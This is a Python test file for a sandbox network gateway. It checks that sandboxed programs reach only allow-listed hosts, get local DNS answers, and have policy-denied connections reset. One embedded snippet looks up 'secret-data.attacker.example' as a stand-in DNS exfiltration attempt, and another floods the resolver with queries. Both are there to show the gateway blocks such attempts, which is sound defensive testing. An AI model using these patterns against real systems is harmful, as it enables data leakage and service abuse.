"""What a program in a real sandbox reaches through a gateway."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from typing import Any

from twisted.internet import reactor as _reactor
from twisted.internet.interfaces import IProtocol
from twisted.internet.protocol import Factory, Protocol
from twisted.internet.threads import deferToThread
from twisted.trial.unittest import TestCase

from ironcurtain.network.access import Access, listeners, read_entry
from ironcurtain.network.dialling import Dialer
from ironcurtain.network.gateway import Gateway, WayOut
from ironcurtain.network.judge import AccountUse
from ironcurtain.network.listed import ListedJudge
from ironcurtain.process.bounded import Bounds
from ironcurtain.providers.provider import RequestRefusal
from ironcurtain.sandbox import programs
from ironcurtain.sandbox.spec import Kind, Sandbox
from ironcurtain.services.stream import adopt, serve
from tests.http.direct import DIRECT
from tests.machine import demand_sandbox, python_inside
from tests.network.test_name_answers import query

reactor: Any = _reactor
SECONDS = 100.0

PROGRAM = """
import socket
def attempt(host, port):
    try:
        with socket.create_connection((host, port), 10) as connected:
            connected.sendall(b"hello")
            print(host, port, connected.recv(100).decode())
    except OSError as e:
        print(host, port, type(e).__name__)
"""

ASK_FOR_NAME = """
import socket
try:
    socket.getaddrinfo("secret-data.attacker.example", 443)
except socket.gaierror as e:
    print(e.strerror)
"""

ASK_NAMES = """
import socket
query = bytes.fromhex(%r)
with socket.socket(type=socket.SOCK_DGRAM) as asking:
    asking.settimeout(10)
    asking.sendto(query, ("127.0.0.1", 53))
    print(asking.recv(600).hex())
with socket.create_connection(("127.0.0.1", 53), 10) as asking:
    asking.sendall(len(query).to_bytes(2, "big") + query)
    print(asking.recv(600)[2:].hex())
"""

ASK_WITHOUT_READING = """
import socket
query = bytes.fromhex(%r)
with socket.create_connection(("127.0.0.1", 53), 10) as asking:
    asking.settimeout(2)
    sent = 0
    try:
        while sent < 50_000_000:
            sent += asking.send((len(query).to_bytes(2, "big") + query) * 1000)
    except TimeoutError:
        pass
    print(sent)
"""


class Echo(Protocol):
    """Sends back what it gets."""

    def dataReceived(self, data: bytes) -> None:
        assert self.transport is not None
        self.transport.write(data)


class Elsewhere:
    """A dialer that reaches a server of the test, whatever is asked for."""

    def __init__(self, port: int) -> None:
        self._port = port
        self.dialled: list[tuple[str, int, bool]] = []

    async def connect(self, host: str, port: int, protocol: IProtocol, *, private: bool = False) -> None:
        """Connect there."""
        self.dialled.append((host, port, private))
        await adopt(socket.create_connection(("127.0.0.1", self._port), SECONDS), protocol)


class Refusing:
    """A policy that denies one host."""

    async def connect(self, host: str, port: int) -> RequestRefusal | None:
        """Deny it."""
        return RequestRefusal(403, "denied", "rule says no") if host.startswith("denied") else None

    async def request(self, method: str, url: str, account: AccountUse | None = None) -> RequestRefusal | None:
        """Nobody asks."""
        raise AssertionError(url)

    def may_be_private(self, host: str, port: int) -> bool:
        """Nobody asks."""
        raise AssertionError(host)

    def hold(self, host: str, port: int, end: Callable[[], None]) -> Callable[[], None]:
        """Nothing is taken back."""
        return lambda: None


class GatewayTests(TestCase):
    """One run of a sandbox."""

    def setUp(self) -> None:
        demand_sandbox(Sandbox(kind=Kind.BUBBLEWRAP))
        listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = listening.getsockname()[1]
        self.dialer, self.said = Elsewhere(self.port), list[str]()
        self.listening = listening
        self.addCleanup(listening.close)

    async def run_inside(self, program: str, *entries: str, dialer: Any = None) -> str:
        """:returns: what a program printed whose sandbox may reach so much."""
        access = Access(tuple(map(read_entry, entries)))
        server = await serve(self.listening.dup(), Factory.forProtocol(Echo))
        judge = ListedJudge(access, "the list", Refusing())
        gateway = WayOut(reactor, dialer or self.dialer).gateway(access, judge, self.said.append)
        python, needed = python_inside()
        sandbox = Sandbox(read=needed, listeners=listeners(access, False), files=tuple(access.files()))
        words = [python, "-I", "-S", "-c", program]
        handover = gateway.handover()
        environ = {"PATH": os.environ["PATH"]}
        try:
            done = await deferToThread(programs.run, sandbox, words, environ, Bounds(SECONDS), handover=handover)
        finally:
            handover.theirs.close()
            await gateway.stop()
            server.close()
        self.assertEqual(done.errors, b"")
        return done.output.decode()

    async def test_listed_hosts_are_found_by_their_names(self) -> None:
        calls = "attempt('db.example.com', 5432)\nattempt('API.example.com', 443)\n"
        printed = await self.run_inside(PROGRAM + calls, "db.example.com:5432", "api.example.com")
        self.assertEqual(printed, "db.example.com 5432 hello\nAPI.example.com 443 hello\n")
        self.assertEqual(self.dialer.dialled, [("db.example.com", 5432, True), ("api.example.com", 443, True)])

    async def test_other_ports_and_hosts_are_not_reached(self) -> None:
        calls = "".join(
            f"attempt({host!r}, {port})\n"
            for host, port in (("db.example.com", 443), ("127.0.0.1", self.port), ("127.0.0.10", 22), ("1.1.1.1", 443))
        )
        printed = await self.run_inside(PROGRAM + calls, "db.example.com:5432", "*.example.com:443")
        self.assertEqual(self.dialer.dialled, [])
        self.assertEqual(
            [line.split()[2] for line in printed.splitlines()], ["ConnectionRefusedError"] * 3 + ["OSError"]
        )

    async def test_names_that_are_not_listed_do_not_exist_and_are_asked_nowhere(self) -> None:
        printed = await self.run_inside(ASK_FOR_NAME, "db.example.com:5432")
        self.assertEqual(printed, "Name or service not known\n")  # an answer, not the resolver's time limit
        self.assertEqual(self.dialer.dialled, [])

    async def test_names_are_answered_by_datagram_and_by_stream(self) -> None:
        for name, address in (("db.example.com", "7f00000a"), ("other.example.com", "")):
            printed = await self.run_inside(ASK_NAMES % query(name).hex(), "db.example.com:5432")
            for reply in printed.split():
                self.assertTrue(reply.startswith("1267") and reply.endswith(address))
                self.assertEqual(int(reply[7], 16), 0 if address else 3)

    async def test_names_are_not_answered_while_nobody_reads_the_answers(self) -> None:
        printed = await self.run_inside(ASK_WITHOUT_READING % query("db.example.com").hex(), "db.example.com:5432")
        self.assertLess(int(printed), 20_000_000)  # the kernel has buffers, too

    async def test_a_connection_that_policy_denies_is_reset_and_told(self) -> None:
        printed = await self.run_inside(PROGRAM + "attempt('denied.example.com', 443)\n", "denied.example.com")
        self.assertEqual(printed, "denied.example.com 443 ConnectionResetError\n")
        self.assertEqual(self.said, ["IronCurtain: rule says no"])

    async def test_services_of_this_machine_are_reached_only_where_they_are_listed(self) -> None:
        call = f"attempt('localhost', {self.port})\n"
        dialer = Dialer(reactor, reactor.nameResolver, DIRECT)
        self.assertEqual(
            await self.run_inside(PROGRAM + call, f"localhost:{self.port}", dialer=dialer),
            f"localhost {self.port} hello\n",
        )
        self.assertEqual(
            await self.run_inside(PROGRAM + call, "db.example.com:5432", dialer=dialer),
            f"localhost {self.port} ConnectionRefusedError\n",
        )

    async def test_a_sandbox_that_is_never_started_leaves_nothing_behind(self) -> None:
        access = Access((read_entry("db.example.com:5432"),))
        gateway = Gateway(access, ListedJudge(access, "the list"), self.dialer, reactor, tell=self.said.append)
        with gateway.handover().theirs:
            pass
        await gateway.stop()
        self.assertEqual(self.said, [])
